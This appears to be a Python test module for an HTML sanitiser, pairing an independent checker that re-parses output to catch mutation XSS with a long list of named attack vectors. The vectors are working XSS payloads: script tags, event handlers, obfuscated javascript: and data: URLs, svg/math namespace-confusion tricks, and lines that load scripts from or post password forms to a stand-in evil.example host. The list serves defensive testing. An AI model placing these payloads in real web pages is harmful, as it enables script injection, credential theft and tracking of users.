"""HTML that wants to do harm, and a judge that reads what is left as a browser does.

`alive` keeps its own lists: it must not learn from the sanitiser what is harmless.
"""

import re

import html5lib
from html5lib.serializer import serialize

_ELEMENTS = frozenset(
    "p h3 h4 ul ol li strong em sub sup blockquote a img br table thead tbody tr th td caption bdi span".split()
)
_ATTRIBUTES = {
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height"},
    "th": {"scope", "colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
}
_SCHEMES = {"http", "https", "mailto", "tel"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.I)
_PICTURE = re.compile(r"/media/[A-Za-z0-9_-][A-Za-z0-9_.-]*")
_OVERRIDES = re.compile("[\u202a-\u202e\u2066-\u2069]")
_XHTML = "{http://www.w3.org/1999/xhtml}"


def alive(html: str) -> list[str]:
    """What is still dangerous, parsed once and once more after a round through innerHTML, where mXSS wakes up."""
    first = html5lib.parseFragment(html)
    again = html5lib.parseFragment(serialize(first, quote_attr_values="always", sanitize=False))
    return [*_faults(first), *_faults(again)]


def _faults(tree) -> list[str]:
    found = []
    for element in list(tree.iter())[1:]:
        if not isinstance(element.tag, str):
            found.append("comment or declaration")
            continue
        name = element.tag.removeprefix(_XHTML)
        if name not in _ELEMENTS:
            found.append(f"<{name}>")
        for attribute, value in element.attrib.items():
            found += _fault_of(name, attribute, value)
        if any(_OVERRIDES.search(text) for text in (element.text or "", element.tail or "")):
            found.append("bidirectional override in text")
    return found


def _fault_of(name: str, attribute: str, value: str) -> list[str]:
    if attribute not in _ATTRIBUTES.get(name, set()) | {"dir", "lang"}:
        return [f"{name} {attribute}={value!r}"]
    if _OVERRIDES.search(value):
        return [f"bidirectional override in {name} {attribute}"]
    if attribute == "href" and not _may_link(value):
        return [f"link to {value!r}"]
    if attribute == "src" and not _PICTURE.fullmatch(value):
        return [f"picture from {value!r}"]
    if attribute == "dir" and value not in ("ltr", "rtl", "auto"):
        return [f"dir={value!r}"]
    return []


def _may_link(address: str) -> bool:
    """As browsers read it: tabs and line ends fall out, control characters and blanks in front do not count."""
    read = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    scheme = _SCHEME.match(read)
    return scheme is None or scheme[1].lower() in _SCHEMES


_IMG = "<img src=x onerror=alert(1)>"
_DEEP = 600

VECTORS: tuple[tuple[str, str], ...] = (
    # scripts and handlers
    ("script", "<script>alert(1)</script>"),
    ("script, upper case and slash", "<SCRIPT/x src=//evil.example/a.js></SCRIPT >"),
    ("script in a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script never closed", "<p>x<script>alert(1)"),
    ("handler", _IMG),
    ("handler after a slash", "<img/src=x/onerror=alert(1)>"),
    ("handler after a form feed", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("handler after a NUL", "<img src=x on\x00error=alert(1)>"),
    ("handler on an allowed element", '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>'),
    ("handler of an animation", "<p style='animation:x' onanimationstart=alert(1)>x</p>"),
    ("handler of a pointer", "<a href='#' onpointerrawupdate=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>"),
    ("handler of a toggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("handler in a quoted value", '<a href="#ref-1"onclick="alert(1)">1</a>'),
    ("handler behind a reference", '<a href=#ref-1"onclick=alert(1)>1</a>'),
    ("back quote as quote", "<img src=`x` onerror=`alert(1)`>"),
    ("body and its handler", "<body onload=alert(1)><p>x"),
    ("marquee, video, audio", "<marquee onstart=alert(1)>x</marquee><video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"),
    ("popover", "<button popovertarget=x>b</button><p popover id=x onbeforetoggle=alert(1)>x</p>"),
    # addresses
    ("javascript", '<a href="javascript:alert(1)">x</a>'),
    ("javascript, mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("javascript with a tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("javascript with a line end as entity", '<a href="java&#10;script:alert(1)">x</a>'),
    ("javascript with &Tab;", '<a href="java&Tab;script&colon;alert(1)">x</a>'),
    ("javascript as entities", '<a href="&#106;&#x61;vascript&#58;alert(1)">x</a>'),
    ("javascript as long entities", '<a href="&#0000106avascript:alert(1)">x</a>'),
    ("javascript after control characters", '<a href="\x01\x02 javascript:alert(1)">x</a>'),
    ("javascript after control entities", '<a href="&#1;&#14; javascript:alert(1)">x</a>'),
    ("javascript after a wide blank", '<a href="&#x3000;javascript:alert(1)">x</a><a href="\ufeffjavascript:alert(1)">x</a>'),
    ("javascript inside which a mark hides", '<a href="java\u200bscript:alert(1)">x</a><a href="java&shy;script:alert(1)">x</a>'),
    ("javascript with //", '<a href="javascript://evil.example/%0aalert(1)">x</a>'),
    ("vbscript and livescript", '<a href="vbscript:x">x</a><a href="livescript:x">x</a><a href="mocha:x">x</a>'),
    ("data", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("data, base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("blob, file, view-source", '<a href="blob:https://a/1">x</a><a href="file:///etc/passwd">x</a><a href="view-source:x">x</a>'),
    ("feed and jar", '<a href="feed:javascript:alert(1)">x</a><a href="jar:https://e!/x">x</a><a href="intent://x#Intent;end">x</a>'),
    ("picture by data", '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">'),
    ("picture from afar", '<img src="https://tracker.example/pixel.gif">'),
    ("picture from afar, no scheme", '<img src="//tracker.example/pixel.gif"><img src="\\\\tracker.example\\x">'),
    ("picture with dots", '<img src="/media/../account/sign-out"><img src="/media/.."><img src="/media/."><img src="/media/%2e%2e/x">'),
    ("picture with a query", '<img src="/media/x.webp?x=1"><img src="/media/x.webp#x"><img src="/media//evil.example/x">'),
    ("picture with a line end", '<img src="/media/x.webp\n"><img src="\n/media/x.webp">'),
    ("srcset and sizes", '<img src="/media/x.webp" srcset="https://tracker.example/x 1x" sizes="1px" lowsrc=//e dynsrc=//e>'),
    ("picture element", '<picture><source srcset="//tracker.example/x"><img src="/media/x.webp"></picture>'),
    ("ping, target, download", '<a href="/x" ping="https://tracker.example" target="_blank" download="x.exe" referrerpolicy=unsafe-url>x</a>'),
    ("background", '<table background="javascript:alert(1)"><tr><td background="//tracker.example/x">x</td></tr></table>'),
    ("cite and longdesc", '<blockquote cite="javascript:alert(1)">x</blockquote><img src="/media/x.webp" longdesc="javascript:x" usemap="#m">'),
    # elements that load, send or change the page
    ("iframe", "<iframe src=//evil.example></iframe>"),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>x</p>'),
    ("iframe whose end hides a handler", "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>"),
    ("object and embed", '<object data="javascript:alert(1)"><param name=x></object><embed src="//evil.example/x.swf">'),
    ("applet, frameset", "<applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>"),
    ("base", '<base href="//evil.example/"><a href="x">x</a>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("link", '<link rel=stylesheet href=//evil.example/x.css><link rel=import href=//evil.example>'),
    ("form", '<form action="//evil.example"><input name=password><button>x</button></form>'),
    ("formaction", '<button formaction="javascript:alert(1)">x</button><input type=image src=x formaction=javascript:alert(1)>'),
    ("isindex and keygen", "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>"),
    ("select and textarea", "<select><option><style></option></select><img src=x onerror=alert(1)></style>"),
    ("textarea end", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>"),
    ("title end", "<title><p title='</title><img src=x onerror=alert(1)>'></title>"),
    ("htmx attributes", '<p hx-get="/en/account/delete" data-hx-trigger="load" data-hx-post="/x" data-errors>x</p>'),
    ("custom element and slot", "<x-evil is=x><slot name=x></slot></x-evil><p is=x-evil part=x slot=x>x</p>"),
    # style, names
    ("style attribute", '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>'),
    ("style expression", '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>'),
    ("style element", "<style>*{display:none}</style><style>@import '//evil.example/x.css';</style>"),
    ("style end inside a style", "<style><p title='</style><img src=x onerror=alert(1)>'></style>"),
    ("id, name, class", '<p id="main" class="skip" name="x">x</p><a name="body" id="cookie" href="#">x</a>'),
    ("clobbering by id", '<form id=x><p id=attributes></p></form><img name=getElementById><img name=body>'),
    ("aria and role", '<p role="alert" aria-live="assertive" aria-hidden="true" contenteditable accesskey=x hidden>x</p>'),
    # other vocabularies and broken trees
    ("svg", "<svg onload=alert(1)></svg><svg><script>alert(1)</script></svg>"),
    ("svg and animate", '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>'),
    ("svg use", '<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>'),
    ("svg foreignObject", "<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>"),
    ("xlink", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>"),
    ("math and style", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"),
    ("math, form and style", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("svg, p and style", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"),
    ("svg title and comment", "<svg><title><!--</title><img src=x onerror=alert(1)>--></svg>"),
    ("math annotation", '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'),
    ("svg desc and noscript", "<svg><desc><noscript><a title='</noscript><img src=x onerror=alert(1)>'></desc></svg>"),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"),
    ("noembed, noframes, xmp, plaintext", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed><noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes><xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext><script>"),
    ("template", "<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>"),
    ("comment", "<!-- x --><!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--!>"),
    ("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE]><script>alert(1)</script><![endif]>"),
    ("CDATA and instructions", "<![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY x 'y'>]>"),
    ("CDATA in svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("broken tags", "<p<img src=x onerror=alert(1)>><<a href=javascript:alert(1)>x</a <b </p onclick=alert(1)>"),
    ("tag never closed", "<p>x<img src=x onerror=alert(1) //"),
    ("heading that the rewriting makes", "<h1<script>alert(1)</script><h1onclick=alert(1)><h2/onclick=alert(1)>x</h2>"),
    ("tables in tables", "<table><tr><td><table><td></table><table><caption><script>alert(1)</script><svg><tr><img src=x onerror=alert(1)>"),
    ("foster parents", "<table><a href=javascript:alert(1)><tr><td onclick=alert(1)>x</table><table><style><td></style><img src=x onerror=alert(1)></table>"),
    ("deep spans", "<span>" * _DEEP + _IMG + "</span>" * _DEEP),
    ("deep mixture", "<blockquote><ul><li><svg><math>" * 200 + _IMG),
    ("many formats reopened", "<em><strong><a href=x>" * 60 + "<p>" * 60 + _IMG),
    # text that reorders what stands around it
    ("bidirectional overrides", "<p>\u202eevil\u202c \u2066x\u2069</p>"),
    ("bidirectional overrides as entities", "<p>&#8238;evil&#x202C; &#x2066;x&#8297;</p><p dir=rtl lang=ar>&#x202d;x</p>"),
    ("javascript parted by an override", '<a href="java&#x202e;script:alert(1)">x</a><a href="java&#1;script:alert(1)">x</a>'),
    ("tags parted by an override", "<scr\u202eipt>alert(1)</scr\u202eipt>&lt;scr&#8238;ipt&gt;<img src=x on\u2066error=alert(1)>"),
    ("overrides in an address and a description", '<a href="https://a.example/&#8238;x">x</a><img src="/media/x.webp" alt="&#x202e;x">'),
    ("tags in values", '<img src="/media/x.webp" alt="> 10 mg <script>alert(1)</script>"><a href="/x?>10 mg<svg onload=alert(1)>">5 mg</a>'),
    ("entities twice", "<p>&amp;#8238;x &amp;lt;script&amp;gt;</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("dir and lang", '<p dir="evil" lang="x\'><script>alert(1)</script>">x</p><bdo dir=rtl>x</bdo>'),
    ("wide numbers", '<td colspan="99999999" rowspan="-1">x</td><img src="/media/x.webp" width="1e9" height="100%">'),
    # what word processors leave
    ("Word", '<p class=MsoNormal style="mso-margin-top-alt:auto;mso-element:para-border-div"><o:p>&nbsp;</o:p><span lang=EN-US style=\'font-family:"Times"\'>Dose</span></p><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]-->'),
    ("Word list and smart tag", "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span>·</span><![endif]>x</p><st1:place w:st='on'>x</st1:place><v:shape onload=alert(1)></v:shape>"),
    ("Google Docs", '<b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr"><span style="font-size:11pt">x</span></p></b><meta charset=utf-8>'),
)  # fmt: skip
